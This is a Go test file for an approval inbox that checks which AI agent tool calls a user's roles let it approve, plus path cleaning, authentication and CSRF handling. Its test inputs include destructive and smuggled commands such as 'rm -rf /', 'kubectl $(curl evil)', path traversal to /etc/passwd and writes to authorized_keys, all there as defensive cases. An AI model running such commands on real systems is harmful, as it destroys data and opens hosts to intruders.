package inbox

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/wardenhq/warden/client"
	"github.com/wardenhq/warden/config"
	"github.com/wardenhq/warden/workflows"
)

// serverWith is an inbox whose user "r" has one role allowing patterns,
// and whose user "admin" has none.
func serverWith(t *testing.T, patterns ...string) *Server {
	t.Helper()
	s, err := New(Config{
		Client: client.New(nil, "unused"),
		Users:  map[string]config.InboxUser{"admin": {Token: "a"}, "r": {Token: "r", Roles: []string{"r"}}},
		Roles:  map[string]config.InboxRole{"r": {Allow: patterns}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestCovers: what a user's role rules let it answer, as the inbox checks
// it before it sends an answer (the turn's own check, with the roles
// checker).
func TestCovers(t *testing.T) {
	s := serverWith(t, "Bash(kubectl:*)", "Write", "Edit(/srv/app/*)")
	tests := []struct {
		tool, input string
		want        bool
	}{
		{"Bash", `{"command":"kubectl get pods"}`, true},
		{"Bash", `{"command":"kubectl get pods | grep web"}`, true},
		{"Bash", `{"command":"kubectl delete ns x && rm -rf /"}`, false},
		{"Bash", `{"command":"kubectlx"}`, false},
		{"Bash", `{"command":"touch x"}`, false},
		{"Bash", `{"command":"kubectl $(curl evil)"}`, false},
		{"Write", `{"file_path":"/etc/passwd","content":"x"}`, true},
		{"Edit", `{"file_path":"/srv/app/main.go","old_string":"a","new_string":"b"}`, true},
		{"Edit", `{"file_path":"/etc/hosts","old_string":"a","new_string":"b"}`, false},
		// Paths are matched cleaned: a role pattern never matches a path
		// that climbs out of it.
		{"Edit", `{"file_path":"/srv/app/../../etc/passwd","old_string":"a","new_string":"b"}`, false},
		// The role allows Write everywhere, so also a command's writes.
		{"Bash", `{"command":"kubectl get pods > /etc/cron.d/x"}`, true},
		// A sensitive path needs an unrestricted approver.
		{"Write", `{"file_path":"/home/u/.ssh/authorized_keys","content":"x"}`, false},
		// An input that does not fit the schema is not covered.
		{"Edit", `{"file_path":"/srv/app/main.go"}`, false},
		{"Read", `{"file_path":"/srv/app/main.go"}`, false},
	}
	for _, tt := range tests {
		if got := s.may("r", tt.tool, json.RawMessage(tt.input), nil, "", nil); got != tt.want {
			t.Errorf("may(r, %s %s) = %v, want %v", tt.tool, tt.input, got, tt.want)
		}
		if !s.may("admin", tt.tool, json.RawMessage(tt.input), nil, "", nil) {
			t.Errorf("may(admin, %s %s) = false: a user without roles answers everything", tt.tool, tt.input)
		}
	}
	// An edit is checked too: the role must cover what would run.
	if s.may("r", "Bash", json.RawMessage(`{"command":"kubectl get pods"}`), json.RawMessage(`{"command":"rm -rf /"}`), "", nil) {
		t.Error("r may edit a kubectl call into rm")
	}
	if s.may("mallory", "Bash", json.RawMessage(`{"command":"kubectl get pods"}`), nil, "", nil) {
		t.Error("a stranger may answer")
	}
}

// TestRolePathsCleaned: a role pattern Edit(/work/src/**) covers
// /work/src/a.go and not /work/src/../../etc/passwd, which is /etc/passwd
// once cleaned. (File tools take absolute paths only: a relative one is an
// invalid input, which no role covers.)
func TestRolePathsCleaned(t *testing.T) {
	s := serverWith(t, "Edit(/work/src/**)")
	edit := func(p string) json.RawMessage {
		b, _ := json.Marshal(map[string]string{"file_path": p, "old_string": "a", "new_string": "b"})
		return b
	}
	for p, want := range map[string]bool{
		"/work/src/a.go":              true,
		"/work/src/deep/b.go":         true,
		"/work/src/../../etc/passwd":  false,
		"/work/src/../main.go":        false,
		"/work/./src/./a.go":          true,
		"/etc/passwd":                 false,
		"/work/src/../src/../../x.go": false,
		"src/a.go":                    false,
	} {
		if got := s.may("r", "Edit", edit(p), nil, "", nil); got != want {
			t.Errorf("Edit(/work/src/**) covers %q = %v, want %v", p, got, want)
		}
	}
}

// TestRuleNotWiderThanRoles: an approver may only add always-allow rules
// its roles already cover (the check mayAlwaysAllow makes).
func TestRuleNotWiderThanRoles(t *testing.T) {
	s, err := New(Config{
		Client: client.New(nil, "unused"),
		Users: map[string]config.InboxUser{
			"admin": {Token: "a"},
			"kube":  {Token: "k", Roles: []string{"k8s"}},
			"dev":   {Token: "d", Roles: []string{"src"}},
		},
		Roles: map[string]config.InboxRole{"k8s": {Allow: []string{"Bash(kubectl:*)"}}, "src": {Allow: []string{"Edit(src/**)", "Read"}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		user, rule string
		want       bool
	}{
		{"kube", "Bash", false},
		{"kube", "Bash(*)", false},
		{"kube", "Bash(rm:*)", false},
		{"kube", "Bash(kubectlx:*)", false},
		{"kube", "Bash(kubectl:*)", true},
		{"kube", "Bash(kubectl get:*)", true},
		{"kube", "Bash(kubectl get pods)", true},
		{"kube", "Bash(kubectl get pods && rm -rf /)", false},
		{"kube", "Edit(src/**)", false},
		{"dev", "Edit(src/**)", true},
		{"dev", "Edit(src/api/**)", true},
		{"dev", "Edit(src/../**)", false},
		{"dev", "Edit(**)", false},
		{"dev", "Edit", false},
		{"dev", "Edit(/etc/**)", false},
		{"dev", "Read(/etc/**)", true}, // the role allows Read everywhere
		{"admin", "Bash", true},
		{"nobody", "Bash(ls)", false},
		{"admin", "Bash(", false}, // does not parse
	}
	for _, c := range cases {
		if got := s.approvers.MayAddRule(s.roles, c.user, c.rule) == nil; got != c.want {
			t.Errorf("MayAddRule(%s, %s) ok = %v, want %v", c.user, c.rule, got, c.want)
		}
	}
}

func newTestServer(t *testing.T) *Server {
	t.Helper()
	s, err := New(Config{
		Client:     client.New(nil, "unused"),
		Users:      map[string]config.InboxUser{"alice": {Token: "tok-a", Password: "pw-a"}, "kube": {Token: "tok-k", Roles: []string{"k8s"}}},
		Roles:      map[string]config.InboxRole{"k8s": {Allow: []string{"Bash(kubectl:*)"}}},
		Registerer: prometheus.NewRegistry(),
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestNewValidates(t *testing.T) {
	cl := client.New(nil, "unused")
	tests := []struct {
		name string
		cfg  Config
		want string
	}{
		{"no client", Config{Users: map[string]config.InboxUser{"a": {Token: "t"}}}, "no warden client"},
		{"no users", Config{Client: cl}, "no users"},
		{"no credentials", Config{Client: cl, Users: map[string]config.InboxUser{"a": {}}}, "neither a token nor a password"},
		{"unknown role", Config{Client: cl, Users: map[string]config.InboxUser{"a": {Token: "t", Roles: []string{"x"}}}}, "unknown role"},
		{"bad rule", Config{Client: cl, Users: map[string]config.InboxUser{"a": {Token: "t", Roles: []string{"x"}}}, Roles: map[string]config.InboxRole{"x": {Allow: []string{"Bash("}}}}, "role \"x\""},
		{"half TLS", Config{Client: cl, Users: map[string]config.InboxUser{"a": {Token: "t"}}, TLSCert: "c.pem"}, "TLS"},
	}
	for _, tt := range tests {
		if _, err := New(tt.cfg); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: New error = %v, want %q", tt.name, err, tt.want)
		}
	}
	s, err := New(Config{Client: cl, Users: map[string]config.InboxUser{"a": {Token: "t"}}})
	if err != nil || s.Addr() != DefaultListen {
		t.Errorf("defaults: %v %q", err, s.Addr())
	}
}

func TestAuthentication(t *testing.T) {
	s := newTestServer(t)
	tests := []struct {
		name   string
		req    func() *http.Request
		status int
	}{
		{"none", func() *http.Request { return httptest.NewRequest("GET", "/static/app.css", nil) }, 401},
		{"bad bearer", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.css", nil)
			r.Header.Set("Authorization", "Bearer nope")
			return r
		}, 401},
		{"bearer", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.css", nil)
			r.Header.Set("Authorization", "Bearer tok-k")
			return r
		}, 200},
		{"basic", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.css", nil)
			r.SetBasicAuth("alice", "pw-a")
			return r
		}, 200},
		{"basic wrong password", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.css", nil)
			r.SetBasicAuth("alice", "pw-k")
			return r
		}, 401},
		{"basic user without password", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.css", nil)
			r.SetBasicAuth("kube", "")
			return r
		}, 401},
		{"token link", func() *http.Request { return httptest.NewRequest("GET", "/?token=tok-a&order=newest", nil) }, 303},
		{"cookie", func() *http.Request {
			r := httptest.NewRequest("GET", "/static/app.js", nil)
			r.AddCookie(&http.Cookie{Name: cookieName, Value: "tok-a"})
			return r
		}, 200},
		{"post without CSRF header", func() *http.Request {
			r := httptest.NewRequest("POST", "/api/approve", strings.NewReader(`{}`))
			r.Header.Set("Authorization", "Bearer tok-a")
			r.Header.Set("Content-Type", "application/json")
			return r
		}, 403},
		{"cross-origin post", func() *http.Request {
			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`{}`))
			r.Header.Set("Authorization", "Bearer tok-a")
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set(csrfHeader, "1")
			r.Header.Set("Origin", "https://evil.example")
			return r
		}, 403},
		{"form post", func() *http.Request {
			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`a=b`))
			r.Header.Set("Authorization", "Bearer tok-a")
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			r.Header.Set(csrfHeader, "1")
			return r
		}, 415},
		{"missing ids", func() *http.Request {
			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`{}`))
			r.Header.Set("Authorization", "Bearer tok-a")
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set(csrfHeader, "1")
			return r
		}, 400},
	}
	for _, tt := range tests {
		w := httptest.NewRecorder()
		s.ServeHTTP(w, tt.req())
		if w.Code != tt.status {
			t.Errorf("%s: status %d, want %d (%s)", tt.name, w.Code, tt.status, w.Body.String())
		}
		if tt.status == 401 && !strings.HasPrefix(w.Header().Get("WWW-Authenticate"), "Basic ") {
			t.Errorf("%s: no basic challenge", tt.name)
		}
		if tt.name == "token link" {
			if loc := w.Header().Get("Location"); loc != "/?order=newest" {
				t.Errorf("token link redirects to %q", loc)
			}
			if c := w.Result().Cookies(); len(c) != 1 || c[0].Value != "tok-a" || !c[0].HttpOnly {
				t.Errorf("token link cookies = %+v", c)
			}
		}
	}
}

// TestRememberOptions: the remembered-approval fields of an approval are
// checked before anything is sent.
func TestRememberOptions(t *testing.T) {
	aa := workflows.DecisionAlwaysAllow
	for _, c := range []struct {
		req  ApproveRequest
		ttl  time.Duration
		fail string
	}{
		{ApproveRequest{Decision: aa, Scope: workflows.ScopeNamespace, TTL: "24h", SingleUse: true}, 24 * time.Hour, ""},
		{ApproveRequest{Decision: aa}, 0, ""},
		{ApproveRequest{Decision: aa, Scope: "everywhere"}, 0, "scope"},
		{ApproveRequest{Decision: workflows.DecisionAllow, Scope: workflows.ScopeTurn}, 0, "remembers an always_allow"},
		{ApproveRequest{Decision: aa, TTL: "1h"}, 0, "need a scope"},
		{ApproveRequest{Decision: aa, Scope: workflows.ScopeInput, TTL: "soon"}, 0, "positive duration"},
		{ApproveRequest{Decision: aa, Scope: workflows.ScopeInput, Rules: []string{"Bash(touch:*)"}}, 0, "takes no rules"},
		{ApproveRequest{Decision: aa, Scope: workflows.ScopeInput, Rules: []string{" "}}, 0, ""},
	} {
		ttl, err := rememberOptions(c.req)
		if c.fail == "" && (err != nil || ttl != c.ttl) || c.fail != "" && (err == nil || !strings.Contains(err.Error(), c.fail)) {
			t.Errorf("%+v: %v %v, want ttl %v error %q", c.req, ttl, err, c.ttl, c.fail)
		}
	}
}
